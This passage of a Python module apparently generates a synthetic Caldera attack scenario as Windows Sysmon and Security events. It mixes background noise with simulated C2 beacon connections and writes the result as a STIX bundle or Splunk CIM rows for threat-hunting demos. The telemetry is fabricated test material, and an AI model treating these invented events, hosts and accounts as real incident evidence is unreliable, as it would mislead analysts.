        key_owner, key = rnd.choice(_SVC_KEYS)
        p = e.procs[key_owner]
        key = key.format(sid=SID_INF808, exe=rnd.choice(["svchost.exe", "dllhost.exe", "WmiPrvSE.exe"]),
                         svc=rnd.choice(_SERVICES))
        return [self.reg(p, t, key, f"DWORD (0x{rnd.getrandbits(16):08x})")]

    def _n_svc_file(self, rnd, e, t):
        if rnd.random() < 0.5:
            p = e.procs["msmpeng"]
            path = (r"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{"
                    f"{self.guid(rnd)[1:-1].upper()}" + r"}\mpengine.dll")
        else:
            p = e.procs["svc_bits"]
            path = ("C:\\Windows\\SoftwareDistribution\\Download\\" + f"{rnd.getrandbits(128):032x}"
                    + "\\" + rnd.choice(["windows10.0-kb5048652-x64.cab.dll", "am_delta_patch.exe",
                                         "MicrosoftEdgeUpdateSetup.exe"]))
        return [self.file(p, t, path)]

    def _n_smb(self, rnd, e, t):
        return [self.net(e.procs["svc_lanman"], t, HOST_IP, self._eport(rnd), FILESERVER_IP,
                         rnd.choice([445, 445, 445, 135, 389]))]

    def _n_winupdate(self, rnd, e, t):
        return [self.net(e.procs["svc_wu"], t, HOST_IP, self._eport(rnd), rnd.choice(_UPDATE_HTTP), 80)]

    def _n_llmnr(self, rnd, e, t):
        if rnd.random() < 0.5:
            return [self.net(e.procs["svc_dns"], t, "fe80::4d1c:8a2e:91f3:6b07", self._eport(rnd),
                             "ff02::1:3", 5355, "udp")]
        return [self.net(e.procs["svc_dns"], t, HOST_IP, self._eport(rnd), "224.0.0.252", 5355, "udp")]

    def _n_auth_system(self, rnd, e, t):
        return [self.sec(t, 4624, "An account was successfully logged on", "SYSTEM",
                         e.procs["services"], [("LogonType", 5)])]

    def _n_auth_machine(self, rnd, e, t):
        return [self.sec(t, 4624, "An account was successfully logged on", "WindowsTarget$",
                         e.procs["lsass"], [("LogonType", 3)])]

    def _n_svc_proxy(self, rnd, e, t):
        p = e.procs["msmpeng"] if rnd.random() < 0.6 else e.procs["svc_bits"]
        return [self.net(p, t, HOST_IP, self._eport(rnd), PROXY_IP, 8080)]

    def _n_beacon(self, rnd, e, t):
        a = self._agent_at(t)
        return [self.net(a, t, HOST_IP, self._eport(rnd), C2_IP, 8888)]

    # user side (inf808)
    def _n_chrome_net(self, rnd, e, t):
        p = e.procs["chrome"]
        if t < PROXY_FROM:
            return [self.net(p, t, HOST_IP, self._eport(rnd), rnd.choice(_DIRECT_WEB), 443)]
        return [self.net(p, t, HOST_IP, self._eport(rnd), PROXY_IP, 8080)]

    def _n_chrome_proc(self, rnd, e, t):
        main = e.procs["chrome"]
        cmd = main.cmd + " " + rnd.choice(_CHROME_TYPES).format(
            n=rnd.randint(5, 900), m=rnd.getrandbits(36), h=rnd.randint(1000, 9000))
        return [self.create(self._short(rnd, e, t, main, "inf808", "chrome.exe", CHROME_DIR, cmd,
                                        "chrome.exe"))]

    def _n_user_proc(self, rnd, e, t):
        parent_key, name, dir, cmd, ofn = rnd.choice(_USER_APPS)
        doc = rnd.choice(_DOCS)
        cmd = cmd.replace("{u}", "inf808").replace("{doc}", doc)
        p = self._short(rnd, e, t, e.procs[parent_key], "inf808", name, dir, cmd, ofn)
        out = [self.create(p)]
        if "Documents" in cmd:  # opening a document leaves a shortcut in Recent
            ext = cmd.rstrip('"').rsplit(".", 1)[-1]
            out.append(self.file(e.procs["explorer"], t + timedelta(seconds=1),
                                 rf"C:\Users\inf808\AppData\Roaming\Microsoft\Windows\Recent\{doc}.{ext}.lnk"))
        return out

    def _n_teams_net(self, rnd, e, t):
        p = e.procs["teams"] if rnd.random() < 0.7 else e.procs["onedrive"]
        return [self.net(p, t, HOST_IP, self._eport(rnd), PROXY_IP, 8080)]

    def _n_user_dns(self, rnd, e, t):
        p = e.procs[rnd.choice(["chrome", "teams", "onedrive", "svc_dns"])]
        domain, answers = rnd.choice(_DOMAINS)
        return [self.dns(p, t, domain, answers)]

    def _n_user_reg(self, rnd, e, t):
        key = rnd.choice(_USER_KEYS).format(
            sid=SID_INF808, rot="Zvpebfbsg.Jvaqbjf.Rkcybere", ext=rnd.choice(["docx", "xlsx", "txt"]),
            n=rnd.randint(0, 30), app=rnd.choice(["Microsoft.Windows.Explorer", "chrome.exe", "OUTLOOK.EXE"]))
        return [self.reg(e.procs["explorer"], t, key, "Binary Data")]

    def _n_user_file(self, rnd, e, t):
        name = rnd.choice(["ChromeSetup.exe", "npp.8.7.1.Installer.x64.exe", "export_{n}.zip",
                           "Teams_windows_x64.msi", "factures_{n}.zip"]).format(n=rnd.randint(1, 99))
        return [self.file(e.procs["chrome"], t, rf"C:\Users\inf808\Downloads\{name}")]

    def _n_enum4798(self, rnd, e, t):
        users = ["inf808", "administrator", "Guest", "DefaultAccount", "WDAGUtilityAccount"]
        if t > self.alex_created:
            users.append("Alex")
        caller = e.procs[rnd.choice(["explorer", "explorer", "svc_dcom"])]
        return [self.sec(t, 4798, "A user's local group membership was enumerated.",
                         rnd.choice(users), caller)]

    def _n_user_cmd(self, rnd, e, t):
        p = self._short(rnd, e, t, e.procs["explorer"], "inf808", "cmd.exe", SYS32,
                        '"C:\\Windows\\system32\\cmd.exe"', "Cmd.Exe")
        c = self._short(rnd, e, t, p, "inf808", "conhost.exe", SYS32, CONHOST_CMD, "CONHOST.EXE")
        return [self.create(p), self.create(c)]


# Words the noise must never contain, or the seed's hunts would find more than the story.
_STORY_WORDS = ("arp", "netsh", "ipconfig", "antivirusproduct", "stagedir", "stagedfiles")


# ---------------------------------------------------------------------------------------------
# Writing


class _Writer:
    def __init__(self, seed: int, shift: timedelta):
        self.rnd = random.Random(f"stixgraph-demo:{seed}:ids")
        self.shift = shift
        self.records = {True: 81_000, False: 415_000}  # EventRecordID per channel
        self.exported = self.ts(EXPORTED_AT)

    def ts(self, t: datetime) -> str:
        return _iso(t + self.shift)

    def uuid4(self) -> str:
        import uuid
        return str(uuid.UUID(int=self.rnd.getrandbits(128), version=4))

    def observed(self, o: _Obs) -> dict:
        t = self.ts(o.t)
        o.ev["created"] = t
        for obj in o.objs.values():  # created times inside (process.created)
            if obj.get("type") == "process" and "created" in obj and self.shift:
                c = datetime.fromisoformat(obj["created"].replace("Z", "+00:00"))
                obj["created"] = self.ts(c)
        self.records[o.sysmon] += 1
        o.ev["original_ref"] = o.add({"type": "artifact", "payload_bin": base64.b64encode(
            self._raw(o, t).encode()).decode(), "mime_type": "text/plain"})
        return {"type": "observed-data", "id": "observed-data--" + self.uuid4(),
                "created_by_ref": IDENTITY_ID, "created": self.exported, "modified": self.exported,
                "first_observed": t, "last_observed": t, "number_observed": 1, "objects": o.objs}

    def _raw(self, o: _Obs, t: str) -> str:
        if o.sysmon:
            provider = ("<Provider Name='Microsoft-Windows-Sysmon' "
                        "Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>")
            channel = "Microsoft-Windows-Sysmon/Operational"
        else:
            provider = ("<Provider Name='Microsoft-Windows-Security-Auditing' "
                        "Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/>")
            channel = "Security"
        data = "".join(f"<Data Name='{k}'>{_xml_escape(str(v))}</Data>"
                       for k, v in ([("UtcTime", t[:-1].replace("T", " "))] if o.sysmon else []) + o.data)
        return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
                f"{provider}<EventID>{o.eid}</EventID><TimeCreated SystemTime='{t}'/>"
                f"<EventRecordID>{self.records[o.sysmon]}</EventRecordID><Channel>{channel}</Channel>"
                f"<Computer>{HOSTNAME}</Computer></System><EventData>{data}</EventData></Event>")


def _iter_events(size: int, seed: int) -> Iterator[_Obs]:
    """The story's events merged with the background noise, in time order: the one event
    stream both writers (STIX bundle, CIM rows) read."""
    world = _World(seed)
    story = world.timeline
    noise = world.noise(max(0, size - len(story)), seed)
    merged = heapq.merge(((t, 0, s, o) for t, s, o in story),
                         ((o.t, 1, i, o) for i, o in enumerate(noise)))
    for _, _, _, o in merged:
        yield o


def iter_observations(size: int = DEFAULT_SIZE, seed: int = DEFAULT_SEED,
                      now: datetime = DEMO_NOW) -> Iterator[dict]:
    """The bundle's observed-data, one at a time, in time order.  ``size`` is the total number
    of observed-data (at least the story's own); ``now`` shifts every time stamp by
    ``now - DEMO_NOW`` (FACTS stay in demo time)."""
    writer = _Writer(seed, now - DEMO_NOW)
    for o in _iter_events(size, seed):
        yield writer.observed(o)


# ---------------------------------------------------------------------------------------------
# The same events as Splunk CIM rows (what the Splunk Add-on for Sysmon makes of them)

_PROVIDERS = {True: ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
                     "4", "0x8000000000000000", "Microsoft-Windows-Sysmon/Operational"),
              False: ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}",
                      "0", "0x8020000000000000", "Security")}


def _raw_event(o: _Obs, t: str, record: int) -> dict:
    """One event as a flat Windows event (the OTRF shape: System fields and EventData at top
    level, values as strings)."""
    name, guid, level, keywords, channel = _PROVIDERS[o.sysmon]
    ev = {"SourceName": name, "ProviderGuid": guid, "Level": level, "Keywords": keywords,
          "Channel": channel, "Hostname": HOSTNAME, "TimeCreated": t, "@timestamp": t,
          "EventID": o.eid, "EventRecordID": str(record)}
    if o.sysmon:
        ev["UtcTime"] = t[:-1].replace("T", " ")
    for k, v in o.data:
        if k in ev and o.eid == 4732 and k == "TargetUserName":
            # 4732: the member added is MemberName, TargetUserName is the group
            ev["MemberName"] = ev[k]
        ev[k] = v if isinstance(v, str) else str(v)
    return ev


def _iter_raw(size: int, seed: int, now: datetime) -> Iterator[tuple[dict, str, _Obs]]:
    writer = _Writer(seed, now - DEMO_NOW)
    for o in _iter_events(size, seed):
        t = writer.ts(o.t)
        writer.records[o.sysmon] += 1
        yield _raw_event(o, t, writer.records[o.sysmon]), writer._raw(o, t), o


def iter_raw_events(size: int = DEFAULT_SIZE, seed: int = DEFAULT_SEED,
                    now: datetime = DEMO_NOW) -> Iterator[tuple[dict, str]]:
    """The scenario's events as flat Windows events (OTRF shape), each with the event XML a
    forwarder sends for it (the same XML as the bundle's artifacts), in time order."""
    for ev, raw, _ in _iter_raw(size, seed, now):
        yield ev, raw


def iter_cim_rows(size: int = DEFAULT_SIZE, seed: int = DEFAULT_SEED, now: datetime = DEMO_NOW,
                  index: str = "main") -> Iterator[dict]:
    """The scenario as the rows Splunk returns (Sysmon add-on CIM fields, via
    :func:`stixgraph.splunk.cim.sysmon_to_cim`), in time order: the same events, times and
    ``_raw`` XML as the STIX bundle of :func:`iter_observations` for the same size and seed."""
    from ..splunk.cim import sysmon_to_cim

    for ev, raw, o in _iter_raw(size, seed, now):
        row = sysmon_to_cim(ev, index=index, raw=raw)
        if row is None:  # pragma: no cover - every event the story emits is covered
            raise AssertionError(f"event not covered by the CIM mapping: {ev.get('EventID')}")
        for obj in o.objs.values():
            # the seed's Splunk returned NETWORK SERVICE with user_id 'S-1-5-18' (quotes
            # included); stix-shifter maps user_id -> account_login, as the bundle has it
            if obj.get("type") == "user-account" and "account_login" in obj:
                row["user_id"] = obj["account_login"]
        yield row


def generate_cim(out: str | os.PathLike | IO[bytes], size: int = DEFAULT_SIZE,
                 seed: int = DEFAULT_SEED, now: datetime = DEMO_NOW, index: str = "main") -> dict:
    """Write the CIM rows as JSON Lines to ``out`` (a path, ``.gz`` for gzip, or a binary
    file), streaming.  Returns counts."""
    if hasattr(out, "write"):
        return _write_cim(out, size, seed, now, index)
    tmp = f"{os.fspath(out)}.tmp{os.getpid()}"
    try:
        if os.fspath(out).endswith(".gz"):
            import gzip
            with gzip.open(tmp, "wb", compresslevel=6) as f:
                stats = _write_cim(f, size, seed, now, index)
        else:
            with open(tmp, "wb") as f:
                stats = _write_cim(f, size, seed, now, index)
        os.replace(tmp, out)
    finally:
        if os.path.exists(tmp):
            os.unlink(tmp)
    return stats


def _write_cim(f: IO[bytes], size: int, seed: int, now: datetime, index: str) -> dict:
    n = nbytes = 0
    buf: list[bytes] = []
    for row in iter_cim_rows(size, seed, now, index):
        line = _dumps(row) + b"\n"
        buf.append(line)
        n += 1
        nbytes += len(line)
        if len(buf) >= 1024:
            f.write(b"".join(buf))
            buf.clear()
    f.write(b"".join(buf))
    return {"rows": n, "bytes": nbytes}


def generate(out: str | os.PathLike | IO[bytes], size: int = DEFAULT_SIZE, seed: int = DEFAULT_SEED,
             now: datetime = DEMO_NOW) -> dict:
    """Write the bundle to ``out`` (a path or a binary file), streaming.  Returns counts."""
    if hasattr(out, "write"):
        return _write(out, size, seed, now)
    tmp = f"{os.fspath(out)}.tmp{os.getpid()}"
    try:
        with open(tmp, "wb") as f:
            stats = _write(f, size, seed, now)
        os.replace(tmp, out)
    finally:
        if os.path.exists(tmp):
            os.unlink(tmp)
    return stats


def _write(f: IO[bytes], size: int, seed: int, now: datetime) -> dict:
    ids = random.Random(f"stixgraph-demo:{seed}:bundle")
    import uuid
    bundle_id = f"bundle--{uuid.UUID(int=ids.getrandbits(128), version=4)}"
    identity = {"type": "identity", "id": IDENTITY_ID, "name": "splunk", "identity_class": "events",
                "created": _iso(EXPORTED_AT + (now - DEMO_NOW)), "modified": _iso(EXPORTED_AT + (now - DEMO_NOW))}
    f.write(b'{"type":"bundle","id":"' + bundle_id.encode() + b'","spec_version":"2.0","objects":[\n')
    f.write(_dumps(identity))
    n = nbytes = objects = 0
    for od in iter_observations(size, seed, now):
        line = _dumps(od)
        f.write(b",\n")
        f.write(line)
        n += 1
        nbytes += len(line) + 2
        objects += len(od["objects"])
    f.write(b"\n]}\n")
    return {"observations": n, "objects": objects, "bytes": nbytes}


def _count(text: str) -> int:
    """``5000``, ``100k``, ``1M`` -> an int."""
    t = text.strip().lower().replace("_", "")
    mult = {"k": 1_000, "m": 1_000_000}.get(t[-1:], 1)
    return int(float(t[:-1] if mult > 1 else t) * mult)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m stixgraph.demo.caldera",
                                 description="Write the Caldera demo scenario: a STIX 2.0 bundle "
                                             "(stix-shifter Splunk shape) or, with --format cim, "
                                             "the Splunk CIM rows of its Sysmon/Security events "
                                             "(JSON Lines).")
    ap.add_argument("out", help="output file (.json for the bundle; .jsonl[.gz] for cim)")
    ap.add_argument("--format", choices=("stix", "cim"), default="stix",
                    help="stix: the bundle (default); cim: Splunk CIM rows, one JSON per line")
    sz = ap.add_mutually_exclusive_group()
    sz.add_argument("--size", type=_count, default=None,
                    help=f"number of events / observed-data (default {DEFAULT_SIZE}; 100k, 1M ok)")
    sz.add_argument("--scale", type=float, default=None,
                    help=f"number of events as a multiple of the default size ({DEFAULT_SIZE}): "
                         f"--scale 200 = 1M events")
    ap.add_argument("--seed", type=int, default=DEFAULT_SEED, help=f"random seed (default {DEFAULT_SEED})")
    ap.add_argument("--index", default="main", help="Splunk index of the CIM rows (default main)")
    ap.add_argument("--now", default=None,
                    help="shift the story so that DEMO_NOW (2024-12-20T00:00:00Z) lands on this "
                         "ISO time (default: no shift)")
    ap.add_argument("-q", "--quiet", action="store_true", help="print nothing")
    a = ap.parse_args(argv)
    size = DEFAULT_SIZE if a.size is None else a.size
    if a.scale is not None:
        size = int(round(a.scale * DEFAULT_SIZE))
    if size < 0:
        ap.error("--size/--scale must be >= 0")
    now = DEMO_NOW
    if a.now:
        now = datetime.fromisoformat(a.now.replace("Z", "+00:00"))
        now = now if now.tzinfo else now.replace(tzinfo=UTC)
    t0 = time.perf_counter()
    if a.format == "cim":
        stats = generate_cim(a.out, size, a.seed, now, a.index)
        dt = time.perf_counter() - t0
        if not a.quiet:
            print(f"{a.out}: {stats['rows']} CIM rows, {os.path.getsize(a.out) / 1e6:.1f} MB in "
                  f"{dt:.1f} s ({stats['rows'] / max(dt, 1e-9):,.0f} rows/s)", file=sys.stderr)
        return 0
    stats = generate(a.out, size, a.seed, now)
    if not a.quiet:
        print(f"{a.out}: {stats['observations']} observed-data, {stats['objects']} objects, "
              f"{os.path.getsize(a.out) / 1e6:.1f} MB in {time.perf_counter() - t0:.1f} s",
              file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
